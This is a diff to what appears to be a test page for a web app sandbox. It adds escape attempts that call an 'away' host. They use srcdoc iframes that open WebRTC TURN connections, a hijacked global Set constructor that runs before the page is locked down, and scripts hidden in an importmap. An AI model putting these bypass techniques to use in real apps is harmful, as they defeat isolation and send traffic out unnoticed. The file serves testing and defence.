@@ -1,3 +1,8 @@
+/** Runs in a document that the app makes within its own, where nothing was taken away yet: from there it calls out. */
+const fresh = (name, away) => `if (location.href === 'about:srcdoc') { console.log('fresh ${name}'); const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:${away}?transport=tcp', username: '${name}', credential: 'c' }] }); peer.createDataChannel('x'); void peer.setLocalDescription(); }`;
+/** Takes the name of something that whoever locks the document uses, and so runs before them. */
+const hoisted = (name, away) => `function Set(list = []) { ${fresh(name, away)} return Object.assign([...list], { has: (one) => list.includes(one) }); }`;
+
 /**
  * The page of an app that tries to get out, to be somebody else and to do what it may not. Each try has a name and goes
  * to an address of its own under `away`; what a page can say of itself is in its log.
@@ -8,6 +13,10 @@ export const appPage = (away) => `<!doctype html><html><head><meta charset="utf-
 <button id="use">Use</button> <button id="erase">Erase</button> <button id="top">Top</button> <button id="leave">Leave</button> <button id="refresh">Refresh</button> <button id="flood">Flood</button>
 <ol id="log"></ol>
 <img src="http://${away}/image" alt=""><iframe src="http://${away}/frame"></iframe><script src="http://${away}/script"></script>
+<script>window.own = Set</script>
+<script type="importmap" data-fresh="map">${fresh('map', away)}</script>
+<script data-fresh="hoisted">${hoisted('hoisted', away)} Set(); window.Set = window.own</script>
+<script type="module" data-fresh="scoped">${hoisted('scoped', away)} Set()</script>
 <script type="module">
   const log = (text) => document.querySelector('#log').append(Object.assign(document.createElement('li'), { textContent: text }));
   const attempt = async (name, run) => { try { log(name + ': ' + ((await run()) ?? 'done')); } catch (error) { log(name + ': ' + error.name); } };
@@ -59,6 +68,8 @@ export const appPage = (away) => `<!doctype html><html><head><meta charset="utf-
   await attempt('made', () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://${away}/made' })); });
   await attempt('markup', () => { document.body.insertAdjacentHTML('beforeend', '<iframe src="http://${away}/markup"></iframe><iframe srcdoc="<script>new Image().src=\\'http://${away}/srcdoc\\'<\\/script>"></iframe><object data="http://${away}/object"></object><video src="http://${away}/video"></video><style>@import "http://${away}/import"; p { background: url(http://${away}/background) }</style>'); });
   await attempt('form', () => { document.body.insertAdjacentHTML('beforeend', '<iframe name="sink"></iframe><form target="sink" action="http://${away}/form"><button></button></form>'); document.querySelector('form button').click(); });
+  // Code of its own that its page was allowed, once more where nothing was taken away yet.
+  await attempt('fresh', () => { for (const { type, textContent } of document.querySelectorAll('[data-fresh]')) { const holder = document.createElement('div'); holder.innerHTML = '<iframe></iframe>'; holder.firstChild.setAttribute('srcdoc', '<script type="' + type.replace('importmap', '') + '">' + textContent + '<\\/script>'); document.body.append(holder); } });
   await attempt('undeclared', () => reach('https://undeclared.example/'));
   await attempt('declared', () => reach('https://declared.example/'));
 
